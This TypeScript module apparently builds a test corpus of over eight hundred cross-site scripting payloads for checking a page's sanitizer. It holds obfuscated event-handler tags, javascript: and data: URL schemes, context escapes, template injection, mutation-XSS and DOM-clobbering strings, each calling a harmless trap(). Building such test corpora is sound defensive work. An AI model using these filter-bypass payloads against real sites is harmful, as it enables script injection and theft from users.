/** What each payload tries to run. It is known to the page, so that nothing but the page's own guards keeps it from running. */
const run = 'trap()'

const elements = [
  'img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus', 'iframe src=x', 'object data=x', 'embed src=x', 'marquee', 'a href=#x',
  'form', 'button autofocus', 'style', 'link rel=stylesheet href=x', 'math', 'p tabindex=0', 'figure', 'x-y tabindex=0', 'script src=x', 'blockquote', 'table', 'source srcset=x',
]
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onscrollend']

/** Ways of writing one element and its handler that browsers forgive and filters overlook. */
const writings: ((element: string, handler: string) => string)[] = [
  (e, h) => `<${e} ${h}=${run}>`,
  (e, h) => `<${e.replace(/^\S+/, (name) => name.toUpperCase())} ${h.toUpperCase()}="${run}">`,
  (e, h) => `<${e.replaceAll(' ', '/')}/${h}='tr&#97;p()'//`,
  (e, h) => `"'><${e}\n${h}\n=\n${run}>`,
]

const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript&#58;', 'data:text/html,<script>top.trap()</script>', 'vbscript:', 'javascript://%0a']
const holders: ((url: string) => string)[] = [
  (u) => `<a href="${u}${run}" autofocus>x</a>`,
  (u) => `<iframe src="${u}${run}"></iframe>`,
  (u) => `<form action="${u}${run}"><button>x</button></form>`,
  (u) => `<svg><a xlink:href="${u}${run}"><text>x</text></a></svg>`,
  (u) => `<object data="${u}${run}"></object>`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}${run}">`,
  (u) => `<base href="${u}${run}//">`,
  (u) => `[x](${u}${run})`,
]

/** What leaves the place that a text stands in: an attribute, a script's data, a title, a comment. */
const escapes = [
  `</script><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</noscript><img src=x onerror=${run}>`, `--><script>${run}</script>`,
  `<!--><script>${run}</script>-->`, `]]><script>${run}</script>`, `"></template><script>${run}</script>`, `' autofocus onfocus=${run} x='`, `" autofocus onfocus=${run} x="`, `\` autofocus onfocus=${run} x=\``,
  `'-${run}-'`, `"-${run}-"`, `\\";${run}//`, `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `<%= ${run} %>`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<svg><script>${run}</script></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<svg><animate attributeName=href values=javascript:${run} /><a>x</a></svg>`, `<svg><set attributeName=onmouseover to=${run}>`, `<style>@import 'javascript:${run}'</style>`,
  `<div style="background:url(javascript:${run})">x</div>`, `<xss contenteditable autofocus onfocus=${run}>`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<a id=defaultView><a id=defaultView name=cookie>`, `<img name=getElementById>`, `<input name=attributes>`, `<figure data-embed="youtube" data-id="x&quot; onload=${run}"></figure>`, `<img src="/img/x" alt="&quot; onerror=${run}">`, `<time datetime="x" onclick=${run}>x</time>`,
]

/** More than eight hundred attempts to run a script out of a text. */
export const payloads: string[] = [...elements.flatMap((e) => handlers.flatMap((h) => writings.map((w) => w(e, h)))), ...holders.flatMap((h) => schemes.map((s) => h(s))), ...escapes]
